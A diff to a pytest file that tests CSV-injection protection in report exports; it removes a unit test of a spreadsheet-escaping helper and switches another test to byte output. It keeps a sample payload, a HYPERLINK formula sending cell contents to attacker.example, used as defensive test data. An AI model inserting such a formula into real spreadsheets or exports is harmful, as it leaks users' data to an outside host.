@@ -7,33 +7,12 @@ import pytest
 
 from ingestion.reports import run_issues_csv_write
 from observatory.accounts.roles import Role
-from observatory.spreadsheet_cells import spreadsheet_safe
 from tests.ingestion.conftest import POLICE_HEADER, csv_bytes, police_row
 from tests.reconciliation.conftest import demo_city, english_messages, raw_store, run_file  # noqa: F401
 
 pytestmark = pytest.mark.django_db
 
 FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
-
-
-@pytest.mark.parametrize(
-    ("value", "written"),
-    [
-        (FORMULA, "'" + FORMULA),
-        ("+1+1", "'+1+1"),
-        ("-2+3", "'-2+3"),
-        ("@SUM(A1)", "'@SUM(A1)"),
-        ("\tcmd", "'\tcmd"),
-        ("-12.5", "-12.5"),
-        ("+3", "+3"),
-        ("1e-3", "1e-3"),
-        ("Mixco", "Mixco"),
-        (-4, -4),
-        (None, None),
-    ],
-)
-def test_formulas_get_an_apostrophe_and_numbers_stay_numbers(value, written):
-    assert spreadsheet_safe(value) == written
 
 
 @pytest.fixture
@@ -47,10 +26,10 @@ def _cells(text: str) -> list[str]:
 
 
 def test_the_run_report_and_the_drop_folder_report_neutralise_an_uploaded_formula(run_with_a_formula):
-    out = io.StringIO()
+    out = io.BytesIO()
     run_issues_csv_write(run=run_with_a_formula, out=out)
 
-    cells = _cells(out.getvalue())
+    cells = _cells(out.getvalue().decode())
     assert "'" + FORMULA in cells
     assert FORMULA not in cells
 
